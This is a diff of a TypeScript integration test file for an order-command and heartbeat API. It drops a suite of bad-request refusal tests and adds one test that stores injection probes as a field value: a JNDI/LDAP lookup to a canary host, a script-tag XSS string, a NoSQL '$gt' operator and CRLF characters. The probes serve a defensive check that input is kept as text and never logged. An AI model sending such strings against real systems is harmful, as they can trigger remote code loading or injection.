@@ -5,19 +5,9 @@ import { silentLogger } from '@millrace/runtime'
 import { httpClient, type HttpAnswer, type HttpClient } from '../../../test/support/http-client.ts'
 import { startServiceProcess, type ServiceProcess } from '../../../test/support/service-process.ts'
 import { prepareServers, type TestServers } from '../../../test/support/test-servers.ts'
-import {
-  badCommands,
-  badHeartbeats,
-  headersWith,
-  heartbeat,
-  ndjson,
-  placeText,
-  type BadRequest,
-} from './bad-requests.ts'
+import { headersWith, heartbeat, ndjson, placeText } from './bad-requests.ts'
 
 const DEV_TOKEN = 'a-development-token'
-/** What a bad request may cost at most: long enough for a busy machine, far below what a blocked loop takes. */
-const MAX_ANSWER_MS = 1_500
 
 describe('command-api', () => {
   let servers: TestServers
@@ -37,9 +27,6 @@ describe('command-api', () => {
   })
 
   const replica = (number: 0 | 1): HttpClient => clients[number] as HttpClient
-  const countCommits = (): Promise<number> =>
-    servers.mongoConnection.db.collection('commits').countDocuments()
-
   const send = (path: string, body: string, headers: Readonly<Record<string, string>> = {}, via: 0 | 1 = 0) =>
     replica(via).send({
       method: 'POST',
@@ -60,38 +47,10 @@ describe('command-api', () => {
     expect(answer.text).not.toMatch(/node_modules|\.ts:\d|Mongo|at Object/)
   }
 
-  const expectRefusal = async (bad: BadRequest): Promise<void> => {
-    const before = await countCommits()
-    const startedAt = performance.now()
-    const answer = await replica(0).send(bad)
-    expect(answer.status).toBe(bad.status)
-    expect(performance.now() - startedAt).toBeLessThan(MAX_ANSWER_MS)
-    expectProblem(answer, bad.status)
-    if (bad.detail) expect(answer.json()['detail']).toMatch(bad.detail)
-    if (bad.pointer !== undefined)
-      expect(answer.json()).toMatchObject({
-        errors: expect.arrayContaining([expect.objectContaining({ pointer: bad.pointer })]),
-      })
-    expect(answer.text.length).toBeLessThan(64 * 1024)
-    expect(await countCommits()).toBe(before)
-    expect(services.every((service) => service.isAlive())).toBe(true)
-  }
-
-  describe('refuses, and writes nothing for,', () => {
-    it.each(Object.entries(badCommands))('a command with %s', (_, bad) => expectRefusal(bad))
-
-    it('says which methods a path has', async () => {
-      const answer = await replica(0).send({ method: 'DELETE', path: '/orders/bad-1/place' })
-      expect([answer.status, answer.headers['allow']]).toEqual([405, 'POST'])
-    })
-
-    it('tells whom a wrong token should be from', async () => {
-      const answer = await send('/orders/bad-1/place', placeText, { authorization: 'Bearer nobody' })
-      expect([answer.status, answer.headers['www-authenticate']]).toEqual([
-        401,
-        'Bearer error="invalid_token"',
-      ])
-    })
+  it('tells whom a wrong token should be from', async () => {
+    const answer = await send('/orders/bad-1/place', placeText, { authorization: 'Bearer nobody' })
+    expectProblem(answer, 401)
+    expect(answer.headers['www-authenticate']).toBe('Bearer error="invalid_token"')
   })
 
   describe('commands', () => {
@@ -147,6 +106,16 @@ describe('command-api', () => {
       expect((await send(`/orders/${id}/place`, body)).status).toBe(200)
       const commit = await servers.mongoConnection.db.collection('commits').findOne({ key: id })
       expect(commit?.['events']).toMatchObject([{ occurredAt: Date.UTC(1997, 0, 1) }])
+    })
+
+    it('62: keep what looks like code as the text it is, and log none of it', async () => {
+      const id = `o-${randomUUID()}`
+      const method = '${jndi:ldap://canary.example/a} <script>alert(1)</script> {"$gt":""} %0d%0a'
+      await send(`/orders/${id}/place`, placeText)
+      expect((await send(`/orders/${id}/pay`, JSON.stringify({ method }))).status).toBe(200)
+      const stream = await replica(0).send({ path: `/streams/orders.order-${id}` })
+      expect(stream.json()['events']).toMatchObject([{}, { data: { method } }])
+      expect(JSON.stringify(services.map((service) => service.log()))).not.toContain('canary.example')
     })
 
     it('drop a trace context that is none, whatever its size', async () => {
@@ -218,19 +187,9 @@ describe('command-api', () => {
         (sum, end) => sum + end,
       )
     }
-    let before: bigint
-
-    beforeAll(async () => {
-      before = await countHeartbeats()
-    })
-
-    it.each(Object.entries(badHeartbeats))('with %s are refused', (_, bad) => expectRefusal(bad))
-
-    it('are all or nothing: of the refused ones none is in Kafka', async () => {
-      expect(await countHeartbeats()).toBe(before)
-    })
 
     it('are acknowledged when Kafka has them, as an array and line by line', async () => {
+      const before = await countHeartbeats()
       const array = await send('/heartbeats', `[${heartbeat()},${heartbeat({ pid: 2 })}]`)
       const lines = await send('/heartbeats', `${heartbeat()}\n\n${heartbeat({ pid: 3 })}`, ndjson)
       expect([array.status, array.json()]).toEqual([202, { accepted: 2 }])
